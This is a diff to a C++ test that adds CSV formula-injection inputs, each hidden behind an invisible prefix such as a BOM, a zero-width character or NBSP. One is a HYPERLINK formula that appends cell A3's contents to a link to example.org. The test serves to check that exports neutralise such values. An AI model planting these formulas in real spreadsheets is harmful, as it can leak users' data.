@@ -458,6 +458,15 @@ TEST_F(BatchSystemTest, ACsvNeverRunsWhatWasPasted)
         "＝1+1",
         "\t=1+1",
         " =1+1",
+        // what is blank or invisible before a formula: a byte-order mark (two
+        // BOM'd files joined), zero-width spaces, a word joiner, VT, FF, NBSP
+        "\xEF\xBB\xBF=HYPERLINK(\"http://example.org/\"&A3;\"点此查看\")",
+        "\xE2\x80\x8B=1+1",
+        "\xE2\x80\x8D+1",
+        "\xE2\x81\xA0@SUM(1)",
+        "\x0B=1+1",
+        "\x0C-1+1",
+        "\xC2\xA0\xE3\x80\x80=1+1",
     };
     std::string rows;
     for (const char* attack : attacks) {
